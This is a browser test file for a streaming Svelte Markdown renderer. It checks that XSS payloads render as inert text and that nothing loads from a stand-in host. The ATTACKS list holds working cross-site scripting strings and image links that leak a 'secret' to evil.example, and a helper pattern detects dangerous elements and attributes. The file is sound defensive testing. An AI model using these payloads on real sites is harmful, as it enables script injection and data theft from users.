import { flushSync } from 'svelte';
import { render } from 'vitest-browser-svelte';
import { expect, test } from 'vitest';
import Markdown from '#lib/markdown/Markdown.svelte';
import { MarkdownStream } from '#lib/markdown/markdown-stream.svelte.ts';

const ATTACKS = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload=window.hacked=1><a xlink:href="javascript:window.hacked=1">x</a></svg>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '[a](javascript:window.hacked=1) [b]( JaVaScRiPt:window.hacked=1) [c](java&#10;script:hacked=1)',
  '[d](data:text/html;base64,PHNjcmlwdD4=) <javascript:window.hacked=1>',
  '[e][r]\n\n[r]: javascript:window.hacked=1',
  '![x](https://evil.example/?q=secret) ![y](//evil.example/z.png) ![z](data:image/svg+xml,<svg/>)',
  '![a" onerror="window.hacked=1](x" onerror="window.hacked=1)',
  '```"><img src=x onerror=window.hacked=1>\n</code></pre><script>window.hacked=1</script>\n```',
  '$\\href{javascript:window.hacked=1}{x}$ $$\\includegraphics{https://evil.example/a.png}$$',
  '| a |\n| - |\n| <img src=x onerror=window.hacked=1> [q](javascript:window.hacked=1) |',
  '- [ ] <input autofocus onfocus=window.hacked=1>\n> <style>@import "https://evil.example"</style>',
  '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;',
];

const ANSWER = `# Title

First *one* and **two**, \`code\` and ~~gone~~; 5 < 6 &amp; [link](https://example.org "t").

1. one
2. two
   - inner **bold**
   - [x] done

> A quote
> of two lines.

| left | right |
| :--- | ----: |
| a    | 1     |
| b    | $x^2$ |

\`\`\`js
const value = 1 < 2; // comment

const other = '\`\`';
\`\`\`

$$
\\sum_{n=1}^{3} n = 6
$$

It costs $5 and $6. See [the end][end].

---

[end]: https://example.org/end
`;

const ALLOWED_ADDRESS = /^(https?:|mailto:|#)/;
const FORBIDDEN_ELEMENT =
  /^(script|iframe|object|embed|form|style|link|meta|base|video|audio|foreignobject)$/i;

/** Everything in the page that could run, load or lead somewhere by itself. */
function listDangers(root: Element): readonly string[] {
  const dangers: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    if (FORBIDDEN_ELEMENT.test(element.localName)) dangers.push(element.localName);
    for (const { name, value } of element.attributes) {
      if (/^on|^srcdoc$/i.test(name)) dangers.push(`${name}=${value}`);
      const isAddress = /^(href|xlink:href|src|action|poster|srcset)$/i.test(name);
      if (isAddress && !ALLOWED_ADDRESS.test(value)) dangers.push(`${name}=${value}`);
      if (name === 'src') dangers.push(`src=${value}`);
    }
  }
  return dangers;
}

const requestsOutside = (): readonly string[] =>
  performance
    .getEntriesByType('resource')
    .map(({ name }) => name)
    .filter((name) => name.includes('evil.example'));

/** Lets frames, and what is loaded lazily, come to an end. */
const settle = async (): Promise<void> => {
  await import('#lib/markdown/highlight.ts');
  await import('katex');
  await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 20)));
  flushSync();
};

const shownHtml = (root: Element): string => root.innerHTML.replace(/<!--.*?-->/g, '');

test.each(ATTACKS)('%j shows as text, at every length that streaming gives it', async (attack) => {
  for (let length = 1; length <= attack.length; length += 1) {
    const { container, unmount } = await render(Markdown, {
      stream: MarkdownStream.of(attack.slice(0, length)),
    });
    expect(listDangers(container), attack.slice(0, length)).toEqual([]);
    await unmount();
  }
  const { container } = await render(Markdown, { stream: MarkdownStream.of(attack) });
  await settle();

  expect(listDangers(container)).toEqual([]);
  expect((window as { hacked?: number }).hacked).toBeUndefined();
  expect(requestsOutside()).toEqual([]);
});

test.each([1, 7, 64])(
  'an answer that came %d characters at a time looks like the whole one',
  async (size) => {
    const stream = new MarkdownStream();
    const streamed = await render(Markdown, { stream });
    for (let index = 0; index < ANSWER.length; index += size) {
      stream.append(ANSWER.slice(index, index + size));
      // A frame now and then, so that blocks close on the way.
      if ((index / size) % 40 === 0) await new Promise(requestAnimationFrame);
    }
    stream.end();
    await settle();
    const whole = await render(Markdown, { stream: MarkdownStream.of(ANSWER) });
    await settle();

    expect(shownHtml(streamed.container)).toBe(shownHtml(whole.container));
    expect(whole.container.querySelectorAll('table, pre, .katex, ol, blockquote')).toHaveLength(6);
  },
);

test('what is complete keeps its elements while more arrives', async () => {
  const stream = new MarkdownStream();
  const { container } = await render(Markdown, { stream });
  stream.append('First.\n\nSecond');
  await settle();
  const first = container.querySelector('p');
  stream.append(' goes on.\n\nThird.');
  await settle();

  expect(container.querySelector('p')).toBe(first);
  expect([...container.querySelectorAll('p')].map((p) => p.textContent)).toEqual([
    'First.',
    'Second goes on.',
    'Third.',
  ]);
});

test('two prices are no formula', async () => {
  const { container } = await render(Markdown, {
    stream: MarkdownStream.of('From $5 to $10, and $a+b$.'),
  });
  await settle();

  expect(container.querySelectorAll('.katex')).toHaveLength(1);
  expect(container.textContent).toContain('From $5 to $10, and');
});
